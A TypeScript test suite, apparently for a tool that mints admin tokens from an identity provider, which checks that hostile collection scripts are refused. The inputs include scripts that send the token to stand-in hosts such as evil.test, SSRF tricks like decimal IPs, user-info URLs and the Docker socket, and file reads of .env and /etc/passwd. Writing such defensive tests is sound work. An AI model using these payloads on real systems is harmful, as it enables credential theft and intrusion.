import { once } from 'node:events';
import { createServer } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { expect, onTestFinished } from 'vitest';
import { createCertificate } from '../../scripts/sandbox/certificate.ts';
import { type Attack, attacks, CANARY } from '../support/attacks.ts';
import { type Minted, mint, type Scene, scene, script, useWorker } from '../support/hostile-run.ts';
import { runHere } from '../support/in-process.ts';

useWorker();

const T = "const t = pm.variables.get('admin_token');";

/** What a script does, before the request (or after it) is sent. */
const scripted = (exec: (scene: Scene) => string, listen: 'prerequest' | 'test' = 'prerequest') =>
  mint((where) => ({ item: script(listen, `${T} ${exec(where)}`) }));

/** Somebody else was to be asked, and the run says so: nothing arrives there. */
const refused = (name: string, attempt: () => Promise<Minted>): Attack<Minted> => ({
  name,
  attempt,
  happened: ({ code, message }) => {
    expect(code).toBe('host-refused');
    expect(message).toMatch(/\S/);
  },
  outcome: ({ atOther }) => expect(atOther).toEqual([]),
});

/** The collection's setting has no effect: the IdP is asked as without it, and nobody else. */
const ignored = (
  name: string,
  attempt: () => Promise<Minted>,
  setting: string,
  code: string | null,
): Attack<Minted> => ({
  name,
  attempt,
  happened: (minted) => expect(minted.leftOut.join(', ')).toContain(setting),
  outcome: (minted) => {
    expect(minted.code).toBe(code);
    expect(minted.atIdp).toHaveLength(1);
    expect(minted.atOther).toEqual([]);
  },
});

/** Refused before anything is sent. */
const stopped = (name: string, attempt: () => Promise<Minted>, wanted: string): Attack<Minted> => ({
  name,
  attempt,
  happened: ({ code }) => expect(code).toBe(wanted),
  outcome: ({ atIdp, atOther }) => expect([atIdp, atOther]).toEqual([[], []]),
});

const send = (fields: string) => (where: Scene) =>
  `pm.sendRequest({ url: '${where.other}/x', method: 'POST', ${fields} }, () => {});`;
const redirected = (behaviour: Record<string, unknown>) =>
  mint({ item: { protocolProfileBehavior: behaviour } }, { status: 307, location: 'OTHER/steal' });

attacks('the admin token goes to the IdP and nowhere else', [
  refused('a header of pm.sendRequest', () => scripted(send("header: { Authorization: 'Bearer ' + t }"))),
  refused('nothing but a time server', () => scripted(({ other }) => `pm.sendRequest('${other}/time', () => {});`)),
  refused('a multipart body', () => scripted(send("body: { mode: 'formdata', formdata: [{ key: 'a', value: t }] }"))),
  refused('a GraphQL body', () => scripted(send("body: { mode: 'graphql', graphql: { query: t } }"))),
  refused('reversed, in the URL', () =>
    scripted(({ other }) => `pm.sendRequest('${other}/' + t.split('').reverse().join(''), () => {});`),
  ),
  refused('in pieces', () =>
    scripted(({ other }) => `t.match(/.{1,5}/g).forEach((p) => pm.sendRequest('${other}/' + p, () => {}));`),
  ),
  refused('as the name of a host', () =>
    scripted(() => "pm.sendRequest('http://' + btoa(t.slice(0, 5)).replace(/=/g, '') + '.evil.test/', () => {});"),
  ),
  refused('in a cookie for another host', () =>
    mint(({ other }) => ({
      item: script(
        'prerequest',
        `${T} pm.cookies.jar().set('${other}', 'c', t, () => pm.sendRequest('${other}/', () => {}));`,
      ),
    })),
  ),
  refused('after the answer, with the new token', () =>
    scripted(({ other }) => `pm.sendRequest('${other}/?' + pm.response.json().token, () => {});`, 'test'),
  ),
  refused('the request itself, moved by a script', () =>
    scripted(({ other }) => `pm.request.url.update('${other}/mint');`),
  ),
  refused('a variable of the URL, changed by a script', () =>
    mint(({ idp, other }) => ({
      request: { url: '{{idp_url}}/mint' },
      collection: { variable: [{ key: 'idp_url', value: idp }] },
      item: script('prerequest', `pm.environment.set('idp_url', '${other}');`),
    })),
  ),
  refused('a proxy that a script names', () =>
    scripted(
      ({ idp, other }) =>
        `pm.sendRequest({ url: '${idp}/x', proxy: { host: '127.0.0.1', port: ${new URL(other).port}, tunnel: false } }, () => {});
         pm.sendRequest('${other}', () => {});`,
    ),
  ),
  refused('an address in other digits', () =>
    scripted(({ other }) => `pm.sendRequest('http://2130706433:${new URL(other).port}/', () => {});`),
  ),
  refused('a name that only ends like the IdP', () =>
    scripted(({ idp }) => `pm.sendRequest('${idp.replace('127.0.0.1', 'evil-127.0.0.1.test')}/', () => {});`),
  ),
  refused("the IdP's name as user-info", () =>
    scripted(({ idp, other }) => `pm.sendRequest('${idp}@${new URL(other).host}/', () => {});`),
  ),
  refused('the socket of the Docker daemon', () =>
    scripted(() => "pm.sendRequest('http://unix:/var/run/docker.sock:/info', () => {});"),
  ),
  refused('another scheme at the same port', () =>
    scripted(({ idp }) => `pm.sendRequest('${idp.replace('http:', 'https:')}/', () => {});`),
  ),
  {
    ...refused("through the person's proxy, to another host", () =>
      mint(({ other }) => ({
        request: { url: 'http://idp.test/mint' },
        options: { allowHttp: true },
        env: { HTTP_PROXY: other },
        item: script('prerequest', "pm.sendRequest('http://evil.test/', () => {});"),
      })),
    ),
    outcome: ({ atOther, message }) => {
      expect(message).toBe('evil.test:80');
      expect(atOther).toEqual([expect.stringContaining('POST http://idp.test/mint ')]);
    },
  },
  ignored(
    'followRedirects of the request',
    () => redirected({ followRedirects: true }),
    'followRedirects',
    'idp-redirect',
  ),
  ignored(
    'redirects that keep method and Authorization',
    () => redirected({ followRedirects: true, followAuthorizationHeader: true, followOriginalHttpMethod: true }),
    'followRedirects',
    'idp-redirect',
  ),
  ignored(
    'followRedirects of the collection',
    () =>
      mint({ collection: { protocolProfileBehavior: { followRedirects: true } } }, { status: 308, location: 'OTHER' }),
    'followRedirects',
    'idp-redirect',
  ),
  ignored(
    'a proxy of the request',
    () =>
      mint(({ other }) => ({
        request: { proxy: { match: 'http://*/*', host: '127.0.0.1', port: Number(new URL(other).port) } },
      })),
    'proxy',
    null,
  ),
  ignored(
    'a lenient parser and old TLS',
    () => mint({ item: { protocolProfileBehavior: { insecureHTTPParser: true, tlsDisabledProtocols: ['TLSv1_3'] } } }),
    'insecureHTTPParser, tlsDisabledProtocols',
    null,
  ),
  ignored(
    'a client certificate of the request',
    () => mint({ request: { certificate: { key: { src: '/etc/passwd' } } } }),
    'certificate',
    null,
  ),
  {
    name: "a proxy of the person's environment, for this machine",
    attempt: () => mint(({ other }) => ({ env: { HTTP_PROXY: other } })),
    happened: ({ code }) => expect(code).toBeNull(),
    outcome: ({ atIdp, atOther }) => expect([atIdp.length, atOther.length]).toEqual([1, 0]),
  },
  stopped(
    '{{idp_url}}@evil',
    () =>
      mint(({ idp, other }) => ({
        request: { url: `{{idp_url}}@${new URL(other).host}/mint` },
        options: { idpUrl: idp },
      })),
    'insecure-url',
  ),
  stopped(
    '{{idp_url}}.evil',
    () => mint(() => ({ request: { url: '{{idp_url}}.evil.test/mint' }, options: { idpUrl: 'http://localhost' } })),
    'insecure-url',
  ),
  stopped(
    '{{idp_url}}@evil with the value of a variable',
    () =>
      mint(({ other }) => ({
        request: { url: `{{idp_url}}@${new URL(other).host}/mint` },
        collection: { variable: [{ key: 'idp_url', value: 'https://idp.test' }] },
      })),
    'insecure-url',
  ),
  stopped(
    'a body from a file',
    () => mint({ request: { body: { mode: 'file', file: { src: '.env' } } } }),
    'body-from-file',
  ),
  stopped(
    'a file in a form',
    () =>
      mint({ request: { body: { mode: 'formdata', formdata: [{ key: 'a', type: 'file', src: ['/etc/hosts'] }] } } }),
    'body-from-file',
  ),
]);

/** A proxy that refuses every tunnel with a status. */
async function refusingProxy(status: number): Promise<string> {
  const server = createServer().on('connect', (_, socket) => socket.end(`HTTP/1.1 ${status} No\r\n\r\n`));
  await once(server.listen(0, '127.0.0.1'), 'listening');
  onTestFinished(() => void server.close());
  return `127.0.0.1:${(server.address() as AddressInfo).port}`;
}

/** What is said of a proxy that is in the way: its variable and its host, never its password. */
const proxied = (name: string, proxy: () => Promise<string>, says: RegExp): Attack<Minted> => ({
  name,
  attempt: async () => {
    const env = { HTTPS_PROXY: `http://user:${CANARY.token}@${await proxy()}` };
    return mint({ request: { url: 'https://idp.test/mint' }, env });
  },
  happened: ({ code }) => expect(code).toBe('idp-unreachable'),
  outcome: ({ message }) => expect(message).toMatch(says),
});

attacks('a proxy or a certificate in between', [
  proxied(
    'a proxy that answers 407',
    () => refusingProxy(407),
    /^The proxy of HTTPS_PROXY \(127.*\) refuses.*idp\.test: 407/,
  ),
  proxied(
    'a proxy that answers 502',
    () => refusingProxy(502),
    /^The proxy of HTTPS_PROXY \(127.*\) refuses.*idp\.test: 502/,
  ),
  proxied(
    'a proxy that is not there',
    async () => '127.0.0.1:1',
    /^The proxy of HTTPS_PROXY \(127.0.0.1:1\) cannot be reached/,
  ),
  {
    name: "a web filter's page instead of the IdP's answer",
    attempt: () =>
      mint(
        ({ idp }) => ({
          request: { url: 'http://idp.test/mint' },
          options: { allowHttp: true },
          env: { http_proxy: idp.replace('//', `//user:${CANARY.token}@`) },
        }),
        { status: 403, location: '' },
      ),
    happened: ({ code, atIdp }) => expect([code, atIdp.length]).toEqual(['idp-forbidden', 1]),
    outcome: ({ shown }) => expect(shown).toMatch(/came through the proxy of http_proxy \(127\.0\.0\.1:\d+\)/),
  },
  {
    name: 'strictSSL off in the collection, and a certificate of nobody',
    attempt: async () => {
      let asked = 0;
      const { cert, key } = await createCertificate('127.0.0.1');
      const server = createTlsServer({ cert, key }, (_, response) => {
        asked += 1;
        response.end();
      });
      await once(server.listen(0, '127.0.0.1'), 'listening');
      onTestFinished(() => void server.close());
      const { port } = server.address() as AddressInfo;
      const minted = await mint({
        request: { url: `https://127.0.0.1:${port}/mint` },
        item: { protocolProfileBehavior: { strictSSL: false } },
      });
      return { ...minted, asked };
    },
    happened: ({ code }) => expect(code).toBe('idp-tls'),
    outcome: (minted) => expect(minted).toMatchObject({ asked: 0 }),
  },
  {
    name: 'NODE_TLS_REJECT_UNAUTHORIZED=0',
    attempt: async () => {
      const { idp, atIdp, atOther, folder } = await scene(undefined);
      const env = { NODE_TLS_REJECT_UNAUTHORIZED: '0', IAT_ADMIN_TOKEN: CANARY.admin };
      const { run, all } = await runHere(['--idp-url', idp, '--bff-url', idp], { cwd: folder, env });
      return {
        atIdp,
        atOther,
        leftOut: [],
        code: run.error?.code ?? null,
        message: run.error?.message ?? '',
        shown: all,
      };
    },
    happened: ({ message }) => expect(message).toContain('NODE_TLS_REJECT_UNAUTHORIZED'),
    outcome: ({ atIdp, code, shown }) => {
      expect([code, atIdp]).toEqual(['bad-value', []]);
      expect(shown).toContain('--insecure');
    },
  },
]);
